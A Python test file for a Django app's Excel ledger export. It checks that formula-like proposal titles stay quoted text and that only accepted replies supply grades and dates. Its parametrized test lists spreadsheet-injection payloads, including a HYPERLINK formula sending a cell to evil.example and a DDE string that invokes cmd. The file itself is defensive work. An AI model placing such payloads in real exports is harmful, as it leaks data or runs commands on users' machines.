"""What an exported ledger shows: text that looks like a formula stays text, and the grade
is that of the accepted reply, never of a draft or a reply sent back for revision."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tian.handling.models import Grade, Reply
from tian.ledgers.write import import_ledger
from tian.proposals.models import Proposal

pytestmark = pytest.mark.django_db

HEADER = ["编号", "题目", "提案人", "主办单位", "办理结果", "答复日期"]


def download(client, personas, session):
    client.force_login(personas.office)
    response = client.get(reverse("ledger-export", args=[session.slug]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[2]]
    return {
        row[0].value: dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=3)
    }


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?d="&B3,"详情")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
    ],
)
def test_a_title_that_looks_like_a_formula_is_exported_as_text(
    session, units, personas, client, write_ledger, title
):
    import_ledger(session, write_ledger([HEADER, [1, "关于停车的建议", "张三", "区教育局"]]))
    Proposal.objects.filter(number=1).update(title=title)

    cell = download(client, personas, session)[1]["题目"]

    assert cell.value == title
    assert cell.data_type == "s" and cell.quotePrefix


def test_numbers_and_dates_stay_numbers_and_dates(session, units, personas, client, write_ledger):
    import_ledger(
        session,
        write_ledger([HEADER, [7, "关于停车的建议", "张三", "区教育局", "A", "2022-05-20"]]),
    )

    row = download(client, personas, session)[7]

    assert row["编号"].data_type == "n" and row["编号"].value == 7
    assert row["答复日期"].is_date and row["答复日期"].value.date() == date(2022, 5, 20)
    assert not row["题目"].quotePrefix


def test_the_grade_exported_is_the_accepted_replys_not_a_draft_or_a_returned_one(
    session, units, personas, client, write_ledger
):
    rows = [
        HEADER,
        [1, "一", "张三", "区教育局", "B", "2022-05-20"],
        [2, "二", "李四", "区教育局", None, None],
    ]
    import_ledger(session, write_ledger(rows))
    first, second = Proposal.objects.order_by("number")
    unit = first.assignments.get().unit
    grade_a = Grade.objects.get(session=session, code="A")
    # Round 2 of number 1 is still a draft; number 2 has only a reply sent back.
    Reply.objects.create(
        proposal=first, unit=unit, round=2, grade=grade_a, status=Reply.Status.DRAFT
    )
    Reply.objects.create(
        proposal=second,
        unit=unit,
        grade=grade_a,
        replied_on=date(2022, 6, 1),
        status=Reply.Status.RETURNED,
    )

    exported = download(client, personas, session)

    assert exported[1]["办理结果"].value == "正在解决或列入计划逐步解决"
    assert exported[1]["答复日期"].value.date() == date(2022, 5, 20)
    assert exported[2]["办理结果"].value is None and exported[2]["答复日期"].value is None


def test_the_graded_final_reply_is_exported_and_an_ungraded_one_only_when_none_is_graded(
    session, units, personas, client, write_ledger
):
    rows = [
        HEADER,
        [1, "一", "张三", "区教育局", "B", "2022-05-20"],
        [2, "二", "李四", "区教育局", None, None],
    ]
    import_ledger(session, write_ledger(rows))
    first, second = Proposal.objects.order_by("number")
    unit = first.assignments.get().unit
    # A later accepted reply without a grade does not outrank the graded one; for number 2,
    # whose accepted replies are all ungraded, the latest of them is listed.
    accepted = {"unit": unit, "status": Reply.Status.ACCEPTED, "grade": None}
    Reply.objects.create(proposal=first, round=2, replied_on=date(2022, 7, 1), **accepted)
    Reply.objects.create(proposal=second, replied_on=date(2022, 6, 1), **accepted)
    Reply.objects.create(proposal=second, replied_on=date(2022, 6, 9), **accepted)

    exported = download(client, personas, session)

    assert exported[1]["办理结果"].value == "正在解决或列入计划逐步解决"
    assert exported[1]["答复日期"].value.date() == date(2022, 5, 20)
    assert exported[2]["办理结果"].value is None
    assert exported[2]["答复日期"].value.date() == date(2022, 6, 9)
